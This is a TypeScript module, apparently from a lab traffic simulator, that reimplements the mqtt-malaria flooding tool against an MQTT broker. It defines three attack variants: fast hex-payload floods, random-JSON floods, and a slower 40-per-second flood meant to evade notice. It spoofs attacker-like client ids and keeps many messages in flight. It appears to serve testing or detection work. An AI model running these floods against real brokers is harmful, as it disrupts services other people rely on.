// mqtt-malaria as it behaves: client ids, topics, sizes and the window of 200 unacknowledged messages are the tool's.

import type { Attack, Attacker } from '../attacker.js'

/** What the tool is told on its command line. */
interface Settings {
  /** Messages a second; Infinity: as fast as it can. */
  rate: number
  /** Messages of each process. */
  count: number
  payload(attacker: Attacker, bytes: number): string
}

const IN_FLIGHT = 200
/** Python's string.hexdigits. */
const HEX_DIGITS = '0123456789abcdefABCDEF'
/** So fast is "as fast as it can" here, for each process: the broker of a lab shall live. */
const FASTEST_PER_TICK = 60
const TICK_MS = 100
const JITTER = 0.1

function hexDigits ({ chance }: Attacker, bytes: number): string {
  return chance.text(bytes, HEX_DIGITS)
}

/** A JSON object of random names and values, of about so many bytes. */
function fuzzyJson ({ chance }: Attacker, bytes: number): string {
  const object: Record<string, unknown> = {}
  for (let size = 2; size < bytes;) {
    const name = chance.text(chance.whole(3, 10))
    const value = chance.oneOf<() => unknown>([
      () => chance.whole(-1_000_000, 1_000_000), () => chance.between(-1, 1) * 10 ** chance.whole(0, 9), () => chance.text(chance.whole(4, 40), HEX_DIGITS), () => chance.happens(0.5), () => null, () => [chance.whole(0, 255), chance.whole(0, 255)]
    ])()
    object[name] = value
    size += name.length + 4 + JSON.stringify(value).length
  }
  return JSON.stringify(object)
}

async function publish (attacker: Attacker, { rate, count, payload }: Settings): Promise<void> {
  const { chance, party } = attacker
  const clientId = `beem.loadr-${chance.oneOf(['kali', 'ubuntu', 'vps', 'debian'])}-${chance.whole(900, 32_000)}-${party.index}`
  // The tool's default of 100 bytes, and the 500 and 1000 of its own examples.
  const meanBytes = chance.oneOf([100, 500, 500, 1_000])
  const client = await attacker.client({ clientId, keepalive: 60, gathers: true })
  if (client === null) return
  let inFlight = 0
  const message = (sequence: number): void => {
    const bytes = Math.max(1, Math.round(chance.normal(meanBytes, meanBytes / 20)))
    const topic = `mqtt-malaria/${clientId}/data/${sequence}/${count}`
    const text = payload(attacker, bytes)
    attacker.note(clientId, topic, text)
    inFlight++
    client.publish(topic, text, { qos: 1 }, () => { inFlight-- })
  }
  for (let sent = 0; sent < count && !attacker.over && client.connected;) {
    if (rate === Infinity) {
      for (let i = 0; i < FASTEST_PER_TICK && inFlight < IN_FLIGHT && sent < count; i++) message(++sent)
      await attacker.pause(TICK_MS)
    } else {
      message(++sent)
      await attacker.pause(1_000 / rate * chance.between(1 - JITTER, 1 + JITTER))
    }
  }
  for (let waited = 0; waited < 20 && inFlight > 0 && client.connected && !attacker.over; waited++) await attacker.pause(50)
  client.end(!client.connected)
}

/** The flood. */
export const malaria: Attack = {
  name: 'malaria',
  summary: 'mqtt-malaria: 3 to 6 processes, 5,000 messages of hex digits each, QoS 1, a new topic for each, as fast as 200 in flight allow (here at most 600/s each)',
  attackers: [3, 6],
  run: async attacker => { await publish(attacker, { rate: Infinity, count: 5_000, payload: hexDigits }) }
}

/** The flood with objects. */
export const malariaJson: Attack = {
  name: 'malaria-json',
  summary: 'the same with JSON objects of random names and values as payloads',
  attackers: [3, 6],
  run: async attacker => { await publish(attacker, { rate: Infinity, count: 5_000, payload: fuzzyJson }) }
}

/** The flood that hides. */
export const malariaSlow: Attack = {
  name: 'malaria-40',
  summary: 'mqtt-malaria -T 40: 40 messages a second from each of 3 to 5 processes',
  attackers: [3, 5],
  run: async attacker => { await publish(attacker, { rate: 40, count: 100_000, payload: hexDigits }) }
}
